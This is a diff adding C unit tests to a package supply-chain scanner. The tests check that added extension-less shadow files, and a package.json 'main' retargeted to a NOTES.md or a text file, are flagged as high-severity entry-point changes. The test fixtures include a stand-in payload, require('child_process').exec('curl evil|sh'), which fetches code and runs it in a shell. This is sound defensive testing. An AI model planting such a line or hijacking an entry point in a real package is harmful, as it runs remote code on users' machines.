@@ -93,6 +93,20 @@ static const sg_finding *expect(const char *kind, sg_severity sev, const char *p
     return f;
 }
 
+/* The high entry-changed finding whose detail holds `text`. */
+static const sg_finding *find_high_entry(const char *text)
+{
+    size_t i, n = sg_report_finding_count(rep);
+    for (i = 0; i < n; i++) {
+        const sg_finding *f = sg_report_finding(rep, i);
+        if (strcmp(f->kind, "entry-changed") == 0 && f->severity == SG_SEV_HIGH && f->detail &&
+            strstr(f->detail, text))
+            return f;
+    }
+    dump();
+    return NULL;
+}
+
 static void expect_count(size_t n)
 {
     if (sg_report_finding_count(rep) != n) {
@@ -182,6 +196,84 @@ static void test_tree_diff__new_files_by_class_severity(void **state)
     expect("file-added", SG_SEV_MEDIUM, "index.d.ts");
     expect("file-added", SG_SEV_MEDIUM, "dist/style.css");
     expect_count(3);
+}
+
+/* require('./lib/util') loads an added extension-less lib/util before lib/util.js; and a file
+ * beside a code file with its name minus the extension is found first too (issue 12). */
+static void test_tree_diff__extensionless_and_shadowing_files_are_code(void **state)
+{
+    const sgt_file src[] = {
+        {"package.json", PKG, 0, 0},
+        {"lib/util.js", "module.exports = 1\n", 0, 0},
+        {"lib/util.min.js", "module.exports = 1\n", 0, 0},
+    };
+    const sgt_file art[] = {
+        {"package.json", PKG, 0, 0},
+        {"lib/util.js", "module.exports = 1\n", 0, 0},
+        {"lib/util.min.js", "module.exports = 1\n", 0, 0},
+        {"lib/util", "steal()\n", 0, 0},
+        {"lib/util.min", "steal()\n", 0, 0},
+    };
+    (void)state;
+    run_ok(src, N(src), art, N(art), NULL);
+    expect("file-added", SG_SEV_HIGH, "lib/util");
+    expect("file-added", SG_SEV_HIGH, "lib/util.min");
+    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
+}
+
+/* main pointed at an added NOTES.md holding JavaScript: Node runs files with unknown
+ * extensions as CommonJS. The file is code because main names it, and the retargeted entry
+ * point is high (issue 12). */
+static void test_tree_diff__entry_point_retargeted_to_an_added_file_is_high(void **state)
+{
+    const sgt_file src[] = {
+        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n", 0, 0},
+        {"index.js", "module.exports = 1\n", 0, 0},
+    };
+    const sgt_file art[] = {
+        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"NOTES.md\"}\n", 0, 0},
+        {"index.js", "module.exports = 1\n", 0, 0},
+        {"NOTES.md", "require('child_process').exec('curl evil|sh')\n", 0, 0},
+    };
+    (void)state;
+    run_ok(src, N(src), art, N(art), NULL);
+    expect("file-added", SG_SEV_HIGH, "NOTES.md");
+    assert_non_null(find_high_entry("main now points at 'NOTES.md', a file the source does not "
+                                    "have"));
+    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
+}
+
+/* Retargeted to a file the source has, but whose name is not code; and retargeted through
+ * exports to a source .js file, which stays the medium entry-changed it was. */
+static void test_tree_diff__entry_point_retargets_by_name_and_source(void **state)
+{
+    const sgt_file src[] = {
+        {"package.json",
+         "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"exports\":{\".\":"
+         "\"./index.js\"}}\n",
+         0, 0},
+        {"index.js", "module.exports = 1\n", 0, 0},
+        {"lib/other.js", "module.exports = 2\n", 0, 0},
+        {"docs/x.txt", "text\n", 0, 0},
+    };
+    const sgt_file art[] = {
+        {"package.json",
+         "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"docs/x.txt\",\"exports\":{\".\":"
+         "{\"require\":\"./lib/other\"}}}\n",
+         0, 0},
+        {"index.js", "module.exports = 1\n", 0, 0},
+        {"lib/other.js", "module.exports = 2\n", 0, 0},
+        {"docs/x.txt", "text\n", 0, 0},
+    };
+    size_t i, high = 0;
+    (void)state;
+    run_ok(src, N(src), art, N(art), NULL);
+    for (i = 0; i < sg_report_finding_count(rep); i++) {
+        const sg_finding *f = sg_report_finding(rep, i);
+        high += strcmp(f->kind, "entry-changed") == 0 && f->severity == SG_SEV_HIGH;
+    }
+    assert_int_equal(high, 1);
+    assert_non_null(find_high_entry("main now points at 'docs/x.txt', a file Node runs as code"));
 }
 
 /* ---------------------------------------------------------------- attack class 5: modified */
@@ -545,6 +637,9 @@ int main(void)
         T(test_tree_diff__identical_trees_pass_with_counts),
         T(test_tree_diff__new_code_files_are_high),
         T(test_tree_diff__new_files_by_class_severity),
+        T(test_tree_diff__extensionless_and_shadowing_files_are_code),
+        T(test_tree_diff__entry_point_retargeted_to_an_added_file_is_high),
+        T(test_tree_diff__entry_point_retargets_by_name_and_source),
         T(test_tree_diff__modified_code_is_high),
         T(test_tree_diff__readme_badge_rewrite_is_low_only),
         T(test_tree_diff__modified_takes_the_riskier_class),
